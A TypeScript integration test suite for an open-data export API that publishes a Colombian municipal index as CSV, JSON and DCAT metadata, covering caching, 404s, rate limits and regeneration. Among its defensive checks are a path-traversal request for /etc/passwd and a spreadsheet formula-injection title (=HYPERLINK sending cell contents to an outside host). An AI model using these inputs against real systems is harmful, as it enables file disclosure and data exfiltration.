import { createHash } from 'node:crypto';
import { request } from 'node:http';
import { gunzipSync } from 'node:zlib';

import { Role } from '../../src/core/auth/principal';
import { fromGlobalId } from '../../src/core/graphql/global-ids';
import { bogotaDay } from '../../src/core/time/business-calendar';
import { dimensionColumn } from '../../src/modules/open-data/open-data-datasets';
import { OPEN_DATA_FIGURES, openDataIndexJobId } from '../../src/modules/open-data/open-data.jobs';
import { startSystem } from '../../src/system';
import { dataOf, executeText } from '../support/http';
import { startTestSystem, type TestSystem } from '../support/test-system';
import { finished, settled } from '../support/time-travel';
import { actors, answerAssessment, drive, sendEvent, type Actors } from '../support/workflow';

/*
 * The open data exports through the real HTTP API: a coordinator publishes a cycle's Índice, the
 * worker's job (queued by the relay from the publication's outbox row) writes its CSV, JSON and
 * DCAT metadata, and an anonymous client downloads them from their stable URLs, checked against
 * the Índice the GraphQL API gives. Then: ETags and 304, an unpublished cycle's 404, the PUBLIC
 * rate limit, a second publication (progress columns, catalog), the daily figures, and a restart
 * on an emptied table (the reconciler writes everything again).
 */

const DAY = 24 * 3600 * 1000;
const PUBLIC_PER_MINUTE = 8;

let app: TestSystem;
let coordinator: string;

beforeAll(async () => {
  app = await startTestSystem(
    {
      RELAY_POLL_MS: '50',
      JOB_LOCK_MS: '2000',
      // The tests' requests come from loopback: X-Forwarded-For gives each group of requests a budget of its own.
      TRUST_PROXY: '127.0.0.1,::1',
      RATE_LIMIT_PUBLIC_PER_MINUTE: String(PUBLIC_PER_MINUTE),
    },
    { worker: true },
  );
  coordinator = await app.token(Role.COORDINATOR);
});
afterAll(() => app?.stop());

// ---------------------------------------------------------------------------------------------
// Helpers
// ---------------------------------------------------------------------------------------------

interface Got {
  status: number;
  headers: Headers;
  bytes: Buffer;
  text: string;
}

/** An anonymous GET, from `address` (a fresh one unless told: its own PUBLIC budget). */
async function get(path: string, options: { address?: string; headers?: Record<string, string> } = {}): Promise<Got> {
  const address = options.address ?? `203.0.113.${1 + Math.floor(Math.random() * 250)}, 198.51.100.${Math.floor(Math.random() * 250)}`;
  const res = await fetch(app.url + path, { headers: { 'x-forwarded-for': address, ...options.headers } });
  const bytes = Buffer.from(await res.arrayBuffer());
  return { status: res.status, headers: res.headers, bytes, text: bytes.toString('utf8') };
}

async function ok200(path: string): Promise<Got> {
  const got = await get(path);
  if (got.status !== 200) throw new Error(`GET ${path}: ${got.status} ${got.text.slice(0, 300)}`);
  return got;
}

/** RFC 4180: fields separated by commas, quoted when they hold commas, quotes or line breaks; CRLF between records. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else field += c;
  }
  if (field || row.length) throw new Error('el CSV no termina en CRLF');
  return rows;
}

/** The CSV as records keyed by its header. */
function csvRecords(text: string): { header: string[]; records: Record<string, string>[] } {
  const [header, ...rows] = parseCsv(text);
  for (const r of rows) expect(r).toHaveLength(header.length);
  return { header, records: rows.map((r) => Object.fromEntries(header.map((h, i) => [h, r[i]]))) };
}

const ok = (res: Awaited<ReturnType<typeof executeText>>) => dataOf(res);

async function openCycle(year: number): Promise<string> {
  const res = await executeText(
    app.url,
    `mutation O($input: OpenCycleInput!) { openCycle(input: $input) { id } }`,
    { input: { year, opensAt: new Date(Date.now() - DAY).toISOString(), closesAt: new Date(Date.now() + 60 * DAY).toISOString() } },
    { token: coordinator },
  );
  return ok(res).openCycle.id;
}

async function closeAndPublish(cycleId: string): Promise<void> {
  ok(await executeText(app.url, `mutation C($id: ID!) { closeCycle(id: $id) { cycle { id } } }`, { id: cycleId }, { token: coordinator }));
  ok(
    await executeText(
      app.url,
      `mutation P($input: PublishCycleIndexInput!) { publishCycleIndex(input: $input) { id indexPublishedAt } }`,
      { input: { cycleId } },
      { token: coordinator },
    ),
  );
}

/** Waits for the open data job the publication's outbox row queues (by its deterministic id). */
async function exported(cycleId: string): Promise<void> {
  const key = fromGlobalId(cycleId)?.key ?? cycleId;
  await finished(app, app.system.worker!.queues.maintenance, openDataIndexJobId(key));
}

const START = `mutation S($input: StartAssessmentInput!) { startAssessment(input: $input) { case { id } } }`;

async function startAssessment(who: Actors, cycleId: string): Promise<string> {
  return ok(await executeText(app.url, START, { input: { cycleId } }, { token: who.member })).startAssessment.case.id;
}

/** A validated assessment whose answers sit around `maturity` (0–1), so the ranking's order is known. */
async function validated(who: Actors, cycleId: string, maturity: number): Promise<void> {
  const id = await startAssessment(who, cycleId);
  await answerAssessment(app, who.member, id, maturity);
  const submitted = await sendEvent(app, who.representative, 'MATURITY_ASSESSMENT', id, 'SUBMIT');
  if (submitted.errors) throw new Error(`SUBMIT: ${submitted.errors[0].message}`);
  for (const event of ['START_REVIEW', 'VALIDATE']) await drive(app, who, 'MATURITY_ASSESSMENT', id, event);
}

interface ApiEntry {
  rank: number;
  entityCode: string;
  index: number;
  level: number;
  levelName: string;
  entity: { name: string; kindLabel: string; departmentCode: string; departmentName: string };
  scores: { dimension: string; score: number }[];
  progress: {
    firstParticipation: boolean;
    previousCycleYear: number | null;
    previousIndex: number | null;
    previousRank: number | null;
    indexChange: number | null;
    rankChange: number | null;
  } | null;
}

/** The Índice as the GraphQL API gives it to the coordinator. */
async function apiIndex(cycleId: string): Promise<ApiEntry[]> {
  const res = await executeText(
    app.url,
    `query I($id: ID!) { cycle(id: $id) { index(first: 100) { published edges { node {
       rank entityCode index level levelName
       entity { name kindLabel departmentCode departmentName }
       scores { dimension score }
       progress { firstParticipation previousCycleYear previousIndex previousRank indexChange rankChange }
     } } } } }`,
    { id: cycleId },
    { token: coordinator },
  );
  return ok(res).cycle.index.edges.map((e: { node: ApiEntry }) => e.node);
}

const num = (v: string): number | null => (v === '' ? null : Number(v));

/** What a CSV row of the Índice must say, from the API's entry. */
function expectedRow(year: number, e: ApiEntry): Record<string, string> {
  const s = (v: number | boolean | null | undefined) => (v == null ? '' : String(v));
  return {
    vigencia: String(year),
    puesto: String(e.rank),
    codigo_divipola: e.entityCode,
    entidad: e.entity.name,
    tipo_entidad: e.entity.kindLabel,
    codigo_departamento: e.entity.departmentCode,
    departamento: e.entity.departmentName,
    indice: String(e.index),
    nivel: String(e.level),
    nivel_nombre: e.levelName,
    ...Object.fromEntries(e.scores.map((d) => [dimensionColumn(d.dimension), String(d.score)])),
    vigencia_anterior: s(e.progress?.previousCycleYear),
    indice_anterior: s(e.progress?.previousIndex),
    puesto_anterior: s(e.progress?.previousRank),
    cambio_indice: s(e.progress?.indexChange),
    cambio_puesto: s(e.progress?.rankChange),
    primera_participacion: s(e.progress?.firstParticipation),
  };
}

type Node = Record<string, unknown>;
const value = (v: unknown): unknown => (v && typeof v === 'object' && '@value' in v ? (v as { '@value': unknown })['@value'] : v);
const idOf = (v: unknown): unknown => (v as { '@id'?: unknown })['@id'];

/** Checks a dataset's metadata against the files it describes, as downloaded; returns its node. */
async function checkMetadata(stem: string, csvHeader: string[]): Promise<Node> {
  const meta = await ok200(`/public/datos/${stem}.jsonld`);
  expect(meta.headers.get('content-type')).toBe('application/ld+json; charset=utf-8');
  const doc = JSON.parse(meta.text) as Node;
  expect(doc['@context']).toMatchObject({ dcat: 'http://www.w3.org/ns/dcat#', dct: 'http://purl.org/dc/terms/' });
  expect(doc['@type']).toBe('dcat:Dataset');
  expect(doc['@id']).toBe(`${app.url}/public/datos/${stem}.jsonld`);
  expect(doc['dct:identifier']).toBe(stem);
  expect(value(doc['dct:title'])).toEqual(expect.any(String));
  expect(value(doc['dct:description'])).toEqual(expect.any(String));
  expect(value((doc['dct:publisher'] as Node)['foaf:name'])).toBe('Ministerio de Tecnologías de la Información y las Comunicaciones');
  expect(idOf(doc['dct:license'])).toBe('https://creativecommons.org/licenses/by-sa/4.0/');
  expect(value(doc['dct:issued'])).toEqual(expect.stringMatching(/^\d{4}-\d\d-\d\dT/));
  expect(value(doc['dct:modified'])).toEqual(expect.stringMatching(/^\d{4}-\d\d-\d\dT/));
  expect((doc['dcat:keyword'] as unknown[]).length).toBeGreaterThan(0);
  expect((doc['dcat:theme'] as unknown[]).length).toBeGreaterThan(0);
  const distributions = doc['dcat:distribution'] as Node[];
  expect(distributions.map((d) => idOf(d['dcat:mediaType']))).toEqual([
    'https://www.iana.org/assignments/media-types/text/csv',
    'https://www.iana.org/assignments/media-types/application/json',
  ]);
  for (const [d, ext] of [
    [distributions[0], 'csv'],
    [distributions[1], 'json'],
  ] as const) {
    const url = idOf(d['dcat:downloadURL']) as string;
    expect(url).toBe(`${app.url}/public/datos/${stem}.${ext}`);
    // The URL the metadata gives downloads, and its size is what the metadata says.
    const file = await ok200(url.slice(app.url.length));
    expect(Number(value(d['dcat:byteSize']))).toBe(file.bytes.length);
  }
  // The field dictionary names every CSV column, in order, each with a Spanish title, a description and a type.
  const columns = ((distributions[0]['csvw:tableSchema'] as Node)['csvw:column'] as Node[]).map((c) => ({
    name: c['csvw:name'],
    title: value(c['csvw:title']),
    description: value(c['dct:description']),
    datatype: idOf(c['csvw:datatype']),
  }));
  expect(columns.map((c) => c.name)).toEqual(csvHeader);
  for (const c of columns) {
    expect(c.title).toEqual(expect.any(String));
    expect(c.description).toEqual(expect.any(String));
    expect(c.datatype).toMatch(/^xsd:(string|integer|decimal|boolean|date|dateTime)$/);
  }
  return doc;
}

// ---------------------------------------------------------------------------------------------
// Scenario: two published cycles and one that is not
// ---------------------------------------------------------------------------------------------

/** Medellín, Bogotá (a comma in its name), Barranquilla; then Medellín again with Cali. */
const FIRST = [
  ['05001', 0.9],
  ['11001', 0.6],
  ['08001', 0.3],
] as const;
const SECOND = [
  ['05001', 0.3],
  ['76001', 0.6],
] as const;
const UNPUBLISHED_ENTITY = '13001';

let first: { id: string; year: number };
let second: { id: string; year: number };
let unpublished: { id: string; year: number };
let people: Map<string, Actors>;

beforeAll(async () => {
  people = new Map();
  for (const code of ['05001', '11001', '08001', '76001', UNPUBLISHED_ENTITY, '15001']) people.set(code, await actors(app, code));
  first = { id: await openCycle(2071), year: 2071 };
  for (const [code, maturity] of FIRST) await validated(people.get(code)!, first.id, maturity);
  await closeAndPublish(first.id);
  await exported(first.id);
}, 120_000);

describe('a published Índice', () => {
  it('downloads without a token as UTF-8 CSV, one row per entity exactly as the GraphQL API ranks it', async () => {
    const got = await ok200('/public/datos/indice-cti-2071.csv');
    expect(got.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(got.headers.get('content-disposition')).toContain('attachment; filename="indice-cti-2071.csv"');
    expect(got.headers.get('access-control-allow-origin')).toBe('*');
    expect(got.headers.get('cache-control')).toMatch(/^public, max-age=\d+, no-transform$/);
    expect(got.headers.get('etag')).toMatch(/^(W\/)?"[0-9a-f]{64}"$/);
    // UTF-8 without a byte order mark, accents as UTF-8 sequences (Í = C3 8D, Á = C3 81), as DIVIPOLA writes the names.
    expect(got.bytes.subarray(0, 3).equals(Buffer.from([0xef, 0xbb, 0xbf]))).toBe(false);
    expect(got.bytes.includes(Buffer.from([0x4d, 0x45, 0x44, 0x45, 0x4c, 0x4c, 0xc3, 0x8d, 0x4e]))).toBe(true); // MEDELLÍN
    expect(got.text).toContain('MEDELLÍN');
    expect(got.text).toContain('ATLÁNTICO');
    // A name with a comma goes in quotes (RFC 4180).
    expect(got.text).toContain(',"BOGOTÁ, D.C.",');

    const { header, records } = csvRecords(got.text);
    const api = await apiIndex(first.id);
    expect(api.map((e) => e.entityCode)).toEqual(FIRST.map(([code]) => code));
    expect(records).toEqual(api.map((e) => expectedRow(2071, e)));
    expect(header.slice(0, 10)).toEqual([
      'vigencia',
      'puesto',
      'codigo_divipola',
      'entidad',
      'tipo_entidad',
      'codigo_departamento',
      'departamento',
      'indice',
      'nivel',
      'nivel_nombre',
    ]);
    // Every entity takes part for the first time in the first published cycle.
    expect(records.map((r) => r.primera_participacion)).toEqual(['true', 'true', 'true']);
    // Nothing in it names a person.
    expect(got.text).not.toMatch(/@test/);
  });

  it('gives the same records as JSON, typed', async () => {
    const [csv, json] = [await ok200('/public/datos/indice-cti-2071.csv'), await ok200('/public/datos/indice-cti-2071.json')];
    expect(json.headers.get('content-type')).toBe('application/json; charset=utf-8');
    expect(json.headers.get('content-disposition')).toBeNull();
    const doc = JSON.parse(json.text) as { conjunto: string; columnas: string[]; registros: Record<string, unknown>[] };
    const { header, records } = csvRecords(csv.text);
    expect(doc.conjunto).toBe('indice-cti-2071');
    expect(doc.columnas).toEqual(header);
    expect(doc.registros).toHaveLength(records.length);
    doc.registros.forEach((r, i) => {
      expect(r.codigo_divipola).toBe(records[i].codigo_divipola);
      expect(r.entidad).toBe(records[i].entidad);
      expect(r.puesto).toBe(Number(records[i].puesto));
      expect(r.indice).toBe(num(records[i].indice));
      expect(r.primera_participacion).toBe(true);
      expect(r.indice_anterior).toBeNull();
    });
  });

  it('is described in DCAT: publisher, licence, yearly updates, distributions at their URLs, a dictionary of every column', async () => {
    const { header } = csvRecords((await ok200('/public/datos/indice-cti-2071.csv')).text);
    const doc = await checkMetadata('indice-cti-2071', header);
    expect(idOf(doc['dct:accrualPeriodicity'])).toBe('http://publications.europa.eu/resource/authority/frequency/ANNUAL');
  });

  it('answers 304 to a matching If-None-Match, 200 to another', async () => {
    const got = await ok200('/public/datos/indice-cti-2071.csv');
    const etag = got.headers.get('etag')!;
    const again = await get('/public/datos/indice-cti-2071.csv', { headers: { 'if-none-match': etag } });
    expect(again.status).toBe(304);
    expect(again.bytes.length).toBe(0);
    expect(again.headers.get('etag')).toBe(etag);
    expect(again.headers.get('cache-control')).toBe(got.headers.get('cache-control'));
    const weak = await get('/public/datos/indice-cti-2071.csv', { headers: { 'if-none-match': `"otro", W/${etag}` } });
    expect(weak.status).toBe(304);
    const other = await get('/public/datos/indice-cti-2071.csv', { headers: { 'if-none-match': `"${'0'.repeat(64)}"` } });
    expect(other.status).toBe(200);
    expect(other.bytes.equals(got.bytes)).toBe(true);
  });
});

/** A GET with exactly these headers, its body as sent (fetch would decode it). */
function rawGet(path: string, headers: Record<string, string>): Promise<{ status: number; headers: Record<string, string>; body: Buffer }> {
  const address = `203.0.113.${1 + Math.floor(Math.random() * 250)}`;
  return new Promise((resolve, reject) => {
    const req = request(app.url + path, { headers: { 'x-forwarded-for': address, ...headers } }, (res) => {
      const chunks: Buffer[] = [];
      res.on('data', (c: Buffer) => chunks.push(c));
      res.on('end', () =>
        resolve({ status: res.statusCode!, headers: res.headers as Record<string, string>, body: Buffer.concat(chunks) }),
      );
      res.on('error', reject);
    });
    req.on('error', reject);
    req.end();
  });
}

describe('content codings and validators (RFC 9110 §8.8)', () => {
  it('gives the stored bytes under a strong ETag (their SHA-256), their gzip under the same tag as weak; either revalidates', async () => {
    for (const path of ['/public/datos/indice-cti-2071.json', '/public/datos/catalogo.jsonld']) {
      const plain = await rawGet(path, { 'accept-encoding': 'identity' });
      expect(plain.status).toBe(200);
      expect(plain.body.length).toBeGreaterThanOrEqual(1024); // large enough to be compressed
      expect(plain.headers['content-encoding']).toBeUndefined();
      expect(plain.headers.etag).toBe(`"${createHash('sha256').update(plain.body).digest('hex')}"`);
      expect(Number(plain.headers['content-length'])).toBe(plain.body.length);
      expect(plain.headers.vary).toMatch(/accept-encoding/i);
      expect(plain.headers['cache-control']).toMatch(/no-transform/);

      const zipped = await rawGet(path, { 'accept-encoding': 'gzip, deflate, br' });
      expect(zipped.status).toBe(200);
      expect(zipped.headers['content-encoding']).toBe('gzip');
      // Other bytes, the same data: the strong tag would be a lie, the weak one is not.
      expect(zipped.headers.etag).toBe(`W/${plain.headers.etag}`);
      expect(gunzipSync(zipped.body).equals(plain.body)).toBe(true);
      expect(Number(zipped.headers['content-length'])).toBe(zipped.body.length);
      expect(zipped.headers.vary).toMatch(/accept-encoding/i);

      // A client that refuses gzip gets identity even when it names it.
      expect((await rawGet(path, { 'accept-encoding': 'gzip;q=0, identity' })).headers['content-encoding']).toBeUndefined();

      // If-None-Match compares weakly: a cache holding either encoding revalidates with its tag.
      const fromGzipCache = await rawGet(path, { 'accept-encoding': 'identity', 'if-none-match': zipped.headers.etag });
      expect([fromGzipCache.status, fromGzipCache.headers.etag, fromGzipCache.body.length]).toEqual([304, plain.headers.etag, 0]);
      const fromPlainCache = await rawGet(path, { 'accept-encoding': 'gzip', 'if-none-match': plain.headers.etag });
      expect([fromPlainCache.status, fromPlainCache.headers.etag]).toEqual([304, zipped.headers.etag]);
      expect(fromPlainCache.headers.vary).toMatch(/accept-encoding/i);
    }
  });
});

describe('what is not published', () => {
  beforeAll(async () => {
    unpublished = { id: await openCycle(2073), year: 2073 };
    await validated(people.get(UNPUBLISHED_ENTITY)!, unpublished.id, 0.5);
    await settled(app);
  }, 60_000);

  it('an unpublished cycle has no files (404 in Spanish), nor does the catalog list it', async () => {
    for (const ext of ['csv', 'json', 'jsonld']) {
      const got = await get(`/public/datos/indice-cti-2073.${ext}`);
      expect(got.status).toBe(404);
      expect(got.headers.get('access-control-allow-origin')).toBe('*');
      // Not kept by a shared cache: the file exists as soon as the Índice is published.
      expect(got.headers.get('cache-control')).toBe('no-store');
      const body = JSON.parse(got.text);
      expect(body.errors[0].extensions.code).toBe('NOT_FOUND');
      expect(body.errors[0].message).toContain('No existe el archivo de datos abiertos');
    }
    // A token changes nothing: not even the ministry gets an unpublished Índice from here.
    const asCoordinator = await get('/public/datos/indice-cti-2073.csv', { headers: { authorization: `Bearer ${coordinator}` } });
    expect(asCoordinator.status).toBe(404);
    const catalog = await ok200('/public/datos/catalogo.jsonld');
    expect(catalog.text).not.toContain('indice-cti-2073');
  });

  it('unknown or malformed names are 404, and nothing but /public/datos/<file> is served', async () => {
    for (const path of [
      '/public/datos/indice-cti-1999.csv',
      '/public/datos/INDICE-CTI-2071.CSV',
      '/public/datos/indice-cti-2071.xlsx',
      '/public/datos/..%2F..%2Fetc%2Fpasswd',
      `/public/datos/${'a'.repeat(300)}.csv`,
    ]) {
      const got = await get(path);
      expect({ path, status: got.status }).toEqual({ path, status: 404 });
    }
  });
});

describe('the PUBLIC rate limit', () => {
  it(`serves ${PUBLIC_PER_MINUTE} requests a minute to an address, then 429 with Retry-After; other addresses go on`, async () => {
    const address = `192.0.2.${1 + Math.floor(Math.random() * 250)}`;
    const statuses: number[] = [];
    for (let i = 0; i < PUBLIC_PER_MINUTE; i++) {
      // 200s, 404s and 304s all spend a point.
      const path = ['/public/datos/indice-cti-2071.csv', '/public/datos/no-existe.csv', '/public/datos/catalogo.jsonld'][i % 3];
      statuses.push((await get(path, { address })).status);
    }
    expect(statuses.filter((s) => s === 429)).toEqual([]);
    const refused = await get('/public/datos/indice-cti-2071.csv', { address });
    expect(refused.status).toBe(429);
    expect(Number(refused.headers.get('retry-after'))).toBeGreaterThan(0);
    expect(refused.headers.get('access-control-allow-origin')).toBe('*');
    expect(refused.headers.get('cache-control')).toBe('no-store');
    const body = JSON.parse(refused.text);
    expect(body.errors[0].extensions.code).toBe('RATE_LIMITED');
    expect(body.errors[0].message).toMatch(/Demasiadas solicitudes/);
    expect((await get('/public/datos/indice-cti-2071.csv')).status).toBe(200);
  });
});

describe('a second publication', () => {
  let catalogBefore: Got;
  let earlierEtag: string | null;

  beforeAll(async () => {
    catalogBefore = await ok200('/public/datos/catalogo.jsonld');
    earlierEtag = (await ok200('/public/datos/indice-cti-2071.csv')).headers.get('etag');
    second = { id: await openCycle(2072), year: 2072 };
    for (const [code, maturity] of SECOND) await validated(people.get(code)!, second.id, maturity);
    await closeAndPublish(second.id);
    await exported(second.id);
  }, 120_000);

  it("writes the new Índice with each entity's change against its previous participation", async () => {
    const { records } = csvRecords((await ok200('/public/datos/indice-cti-2072.csv')).text);
    const api = await apiIndex(second.id);
    expect(records).toEqual(api.map((e) => expectedRow(2072, e)));
    // Worked out from the two Índices the API gives: Medellín repeats, Cali is new.
    const before = (await apiIndex(first.id)).find((e) => e.entityCode === '05001')!;
    const medellin = records.find((r) => r.codigo_divipola === '05001')!;
    const now = api.find((e) => e.entityCode === '05001')!;
    expect(medellin).toMatchObject({
      primera_participacion: 'false',
      vigencia_anterior: '2071',
      indice_anterior: String(before.index),
      puesto_anterior: String(before.rank),
      cambio_puesto: String(before.rank - now.rank),
    });
    expect(num(medellin.cambio_indice)).toBeCloseTo(now.index - before.index, 2);
    expect(records.find((r) => r.codigo_divipola === '76001')).toMatchObject({
      primera_participacion: 'true',
      vigencia_anterior: '',
      indice_anterior: '',
      cambio_indice: '',
    });
  });

  it('regenerates the catalog: every published Índice, newest first, then the figures', async () => {
    const catalog = await ok200('/public/datos/catalogo.jsonld');
    expect(catalog.headers.get('etag')).not.toBe(catalogBefore.headers.get('etag'));
    const doc = JSON.parse(catalog.text) as Node;
    expect(doc['@type']).toBe('dcat:Catalog');
    expect(doc['@id']).toBe(`${app.url}/public/datos/catalogo.jsonld`);
    const datasets = doc['dcat:dataset'] as Node[];
    expect(datasets.map((d) => d['dct:identifier'])).toEqual(['indice-cti-2072', 'indice-cti-2071', 'cifras-programa']);
    const before = (JSON.parse(catalogBefore.text) as Node)['dcat:dataset'] as Node[];
    expect(before.map((d) => d['dct:identifier'])).toEqual(['indice-cti-2071', 'cifras-programa']);
    // Each entry is the dataset's own metadata, as served at its URL.
    for (const d of datasets) {
      const own = JSON.parse((await ok200(`/public/datos/${String(d['dct:identifier'])}.jsonld`)).text) as Node;
      delete own['@context'];
      expect(d).toEqual(own);
    }
    const { header } = csvRecords((await ok200('/public/datos/indice-cti-2072.csv')).text);
    await checkMetadata('indice-cti-2072', header);
    // The earlier Índice did not change (nothing earlier than it was published): same bytes, same ETag.
    expect((await ok200('/public/datos/indice-cti-2071.csv')).headers.get('etag')).toBe(earlierEtag);
  });
});

describe('the programme figures', () => {
  /** The figure rows of the assessment process's stage `state`. */
  async function stage(state: string) {
    const got = await ok200('/public/datos/cifras-programa.csv');
    const { records } = csvRecords(got.text);
    const row = records.find(
      (r) => r.seccion === 'etapas' && r.proceso === 'MATURITY_ASSESSMENT' && r.estado === state && r.indicador === 'entidades_etapa',
    );
    return { got, records, entities: Number(row?.valor) };
  }

  it('count the entities at each stage, described in DCAT as daily', async () => {
    const { got, records } = await stage('validated');
    expect(got.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    // Every entity this file validated an assessment for: its latest assessment is validated.
    const validatedEntities = new Set<string>([...[...FIRST, ...SECOND].map(([code]) => code), UNPUBLISHED_ENTITY]).size;
    expect((await stage('validated')).entities).toBe(validatedEntities);
    expect(records.every((r) => /^\d{4}-\d\d-\d\d$/.test(r.fecha_corte))).toBe(true);
    const doc = await checkMetadata('cifras-programa', csvRecords(got.text).header);
    expect(idOf(doc['dct:accrualPeriodicity'])).toBe('http://publications.europa.eu/resource/authority/frequency/DAILY');
    expect(got.text).not.toMatch(/@test/);
  });

  it('are written again by their scheduled job: a new draft shows, with a new ETag', async () => {
    const before = await stage('draft');
    await startAssessment(people.get('15001')!, unpublished.id);
    // Unchanged until the job runs: the file is what the worker wrote.
    expect((await stage('draft')).entities).toBe(before.entities);
    await app.system.worker!.runScheduled(OPEN_DATA_FIGURES);
    const after = await stage('draft');
    expect(after.entities).toBe(before.entities + 1);
    expect(after.got.headers.get('etag')).not.toBe(before.got.headers.get('etag'));
    // Running it again with nothing changed keeps the file (and its ETag) as it is.
    await app.system.worker!.runScheduled(OPEN_DATA_FIGURES);
    expect((await stage('draft')).got.headers.get('etag')).toBe(after.got.headers.get('etag'));
  });
});

describe("an entity's own text in a public CSV", () => {
  const IMPORT = `mutation I($input: ImportActionPlanInput!) { importActionPlan(input: $input) { id } }`;
  const APPROVE = `mutation A($input: CaseDecisionInput!) { approvePlanVersion(input: $input) { case { state } } }`;
  const PUBLISH_PLAN = `mutation P($input: SetActionPlanPublicationInput!) { setActionPlanPublication(input: $input) { id publishedAt } }`;

  it('stays text: a plan title a spreadsheet would run as a formula gets an apostrophe in the CSV, the JSON gives it as written', async () => {
    const rep = people.get('15001')!.representative;
    const title = '=HYPERLINK("https://ejemplo.org/?d="&A2,"Ver el plan")';
    const year = Number(bogotaDay(new Date()).slice(0, 4));
    const content = [
      `objetivo,producto,nombre_producto,indicador,peso,anualizacion,meta_${year}`,
      'O1,1.1,Trámites en línea,Trámites realizados en línea,100,Suma,100',
    ].join('\n');
    const input = { title, startYear: year, endYear: year, periodicity: 'ANNUAL', format: 'CSV', content };
    const planId = ok(await executeText(app.url, IMPORT, { input }, { token: rep })).importActionPlan.id as string;
    const versions = ok(
      await executeText(
        app.url,
        `query V($id: ID!) { actionPlan(id: $id) { versions { case { id } } } }`,
        { id: planId },
        { token: coordinator },
      ),
    );
    ok(await executeText(app.url, APPROVE, { input: { caseId: versions.actionPlan.versions[0].case.id } }, { token: coordinator }));
    ok(await executeText(app.url, PUBLISH_PLAN, { input: { planId, published: true } }, { token: rep }));
    await app.system.worker!.runScheduled(OPEN_DATA_FIGURES);

    const csv = await ok200('/public/datos/cifras-programa.csv');
    const rows = csvRecords(csv.text).records.filter((r) => r.seccion === 'planes' && r.codigo_divipola === '15001');
    expect(rows.length).toBeGreaterThan(0);
    for (const r of rows) expect(r.plan).toBe(`'${title}`);
    expect(csv.text).not.toMatch(/(^|,)"?=HYPERLINK/m);
    // Numbers are not text: a value is never prefixed, whatever its sign.
    expect(rows.every((r) => /^-?\d+(\.\d+)?$/.test(r.valor))).toBe(true);
    const json = JSON.parse((await ok200('/public/datos/cifras-programa.json')).text) as { registros: Record<string, unknown>[] };
    const records = json.registros.filter((r) => r.seccion === 'planes' && r.codigo_divipola === '15001');
    expect(records.map((r) => r.plan)).toEqual(rows.map(() => title));
  });
});

describe('after a restart on an emptied table', () => {
  it('the reconciler writes every file again, byte for byte', async () => {
    const paths = ['indice-cti-2071.csv', 'indice-cti-2072.json', 'indice-cti-2072.jsonld', 'catalogo.jsonld', 'cifras-programa.csv'];
    const before = new Map<string, string>();
    for (const p of paths) before.set(p, (await ok200(`/public/datos/${p}`)).headers.get('etag')!);
    await app.system.orm.em.getKnex()('open_data_file').delete();
    expect((await get('/public/datos/catalogo.jsonld')).status).toBe(404);
    const { config } = app;
    await app.system.stop();
    // The same database and Redis (whose completed jobs keep their ids: they must not swallow the new ones).
    const system = await startSystem(config, { prepareDatabase: true, worker: true });
    app = { ...app, system, url: system.api.url, stop: () => system.stop() };
    await system.worker!.started;
    await settled(app, 20_000);
    for (const p of paths) {
      const got = await ok200(`/public/datos/${p}`);
      // Same content; the URLs inside the metadata start with the new address, so those may differ.
      if (!p.endsWith('.jsonld')) expect({ p, etag: got.headers.get('etag') }).toEqual({ p, etag: before.get(p) });
    }
    expect(JSON.parse((await ok200('/public/datos/catalogo.jsonld')).text)['dcat:dataset']).toHaveLength(3);
  }, 60_000);
});
